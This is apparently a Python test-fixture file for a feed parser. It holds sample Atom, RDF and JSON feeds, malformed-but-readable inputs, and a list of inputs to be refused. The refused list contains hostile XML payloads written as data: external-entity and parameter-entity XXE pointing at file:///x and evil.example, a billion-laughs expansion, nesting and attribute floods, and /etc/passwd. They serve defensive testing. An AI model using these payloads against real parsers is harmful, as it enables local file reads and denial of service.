"""Documents for parsers: three forms of feeds, the ill-formed that is legible, and what is refused by name."""

from __future__ import annotations

from support.feeds import rss


def wrapped(inner: str) -> str:
    return f'<rss version="2.0"><channel><title>t</title><item><title>x</title>{inner}</item></channel></rss>'


ATOM = """<?xml version="1.0"?><feed xmlns="http://www.w3.org/2005/Atom" xml:lang="fr"><title>t</title>
<entry><id>tag:a,1</id><title type="html">Un &lt;b&gt;titre&lt;/b&gt;</title><link href="/un"/>
<author><name>Léa</name></author><updated>2026-01-05T08:00:00Z</updated>
<content type="html">&lt;p&gt;Bonjour&lt;/p&gt;</content></entry></feed>"""
RDF = """<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" xmlns="http://purl.org/rss/1.0/"
 xmlns:dc="http://purl.org/dc/elements/1.1/"><channel><title>t</title></channel>
<item rdf:about="https://a.example/1"><title>One</title><link>https://a.example/1</link>
<dc:date>2026-01-05T08:00:00Z</dc:date><dc:creator>Lea</dc:creator></item></rdf:RDF>"""
JSON_FEED = """{"version": "https://jsonfeed.org/version/1.1", "title": "t", "language": "fr-CA", "items": [
 {"id": "1", "url": "https://a.example/1", "content_html": "<p>Hi</p>", "date_published": "2026-01-05T08:00:00Z",
  "authors": [{"name": "Lea"}]}, {"id": 2, "content_text": "plain", "title": "T", "author": {"name": "Old"}}, 7]}"""


DECLARED = b'<?xml version="1.0" encoding="%b"?>'
NETSCAPE = (
    b'<!DOCTYPE rss PUBLIC "-//Netscape//DTD RSS 0.91//EN" "http://my.netscape.com/publish/formats/rss-0.91.dtd">'
)
PARAMETER = b'<!DOCTYPE rss [<!ENTITY % x SYSTEM "http://evil.example/x"> %x;]>'
LEGIBLE: list[tuple[str, bytes]] = [
    ("undefined entity", wrapped("<description>a &nbsp; b</description>").encode()),
    ("naked ampersand", wrapped("<description>fish & chips</description>").encode()),
    ("control characters", wrapped("<description>a\x00b\x1fc</description>").encode()),
    ("junk before", b"\n\n  " + rss("x")),
    ("lies about its encoding", wrapped("<description>café</description>").encode()),
    ("latin-1 undeclared", wrapped("<description>café</description>").encode("latin-1")),
    ("latin-1 called utf-8", DECLARED % b"utf-8" + wrapped("<description>café</description>").encode("latin-1")),
    ("utf-16", wrapped("").encode("utf-16")),
    ("utf-16 without a mark", ('<?xml version="1.0" encoding="utf-16"?>' + wrapped("")).encode("utf-16-be")),
    ("utf-32", wrapped("").encode("utf-32")),
    ("a codec that nobody knows", b'<?xml version="1.0" encoding="klingon"?>' + wrapped("").encode()),
    ("a codec that is no text", b'<?xml version="1.0" encoding="base64"?>' + wrapped("").encode()),
    ("unclosed root", wrapped("").removesuffix("</channel></rss>").encode()),
    ("undeclared prefix", wrapped("").replace("<item", "<x:item").replace("</item", "</x:item").encode()),
    ("old dtd", NETSCAPE + wrapped("").encode()),
    ("own entities", b'<!DOCTYPE rss [<!ENTITY hi "hello">]>' + wrapped("<description>&hi;</description>").encode()),
]  # fmt: skip


def nested(depth: int) -> str:
    return wrapped("<a>" * depth + "</a>" * depth)


def attributes(count: int, *, ill: bool = False) -> str:
    many = " ".join(f'a{number}="1"' for number in range(count))
    return wrapped(f"<x {many}>{'&nope;' if ill else ''}</x>")


LAUGHS = '<!DOCTYPE rss [<!ENTITY l0 "ha">' + "".join(
    f'<!ENTITY l{n} "{"".join(f"&l{n - 1};" for _ in range(10))}">' for n in range(1, 10)
) + "]>" + wrapped("<description>&l9;</description>")  # fmt: skip
REFUSED: list[tuple[str, str, bytes]] = [
    ("empty", "not-a-feed", b""),
    ("blank", "not-a-feed", b"  \n "),
    ("web page", "not-a-feed", b"<!DOCTYPE html><html><head><title>x</title></head><body>y</body></html>"),
    ("block page", "blocked", b"<html><head><title>Just a moment...</title></head><body></body></html>"),
    ("text", "not-a-feed", b"hello"),
    ("binary", "encoding", bytes(range(1, 32)) * 40 + b"\x81\x8d\x8f\xff\xfe" * 200),
    ("svg", "not-a-feed", b'<svg xmlns="http://www.w3.org/2000/svg"><g/></svg>'),
    ("opml", "not-a-feed", b'<opml version="2.0"><body><outline xmlUrl="http://a/"/></body></opml>'),
    ("json", "not-a-feed", b'{"error": "no"}'),
    ("json error list", "not-a-feed", b'[{"error": "no"}]'),
    ("cut json", "truncated", JSON_FEED[:150].encode()),
    ("cut feed", "truncated", rss("one", "two")[:-60]),
    ("cut before the first entry", "truncated", b"<rss><channel><title>ti"),
    ("external entity", "unsafe", b'<!DOCTYPE rss [<!ENTITY x SYSTEM "file:///x">]>' + wrapped("&x;").encode()),
    ("external dtd", "unsafe", b'<!DOCTYPE rss SYSTEM "http://evil.example/x.dtd">' + wrapped("").encode()),
    ("parameter entity", "unsafe", PARAMETER + wrapped("").encode()),
    ("nesting", "unsafe", nested(10_000).encode()),
    ("attributes", "unsafe", attributes(5_000).encode()),
    ("attributes, ill-formed", "unsafe", attributes(100_000, ill=True).encode()),
    ("billion laughs", "unsafe", LAUGHS.encode()),
    ("json nesting", "unsafe", b'{"items":' + b"[" * 200_000 + b"]" * 200_000 + b"}"),
    ("a file's name", "not-a-feed", b"/etc/passwd"),
    ("utf-16 that is not", "encoding", b"\xff\xfe" + b"\x00\xd8" * 999),
]  # fmt: skip
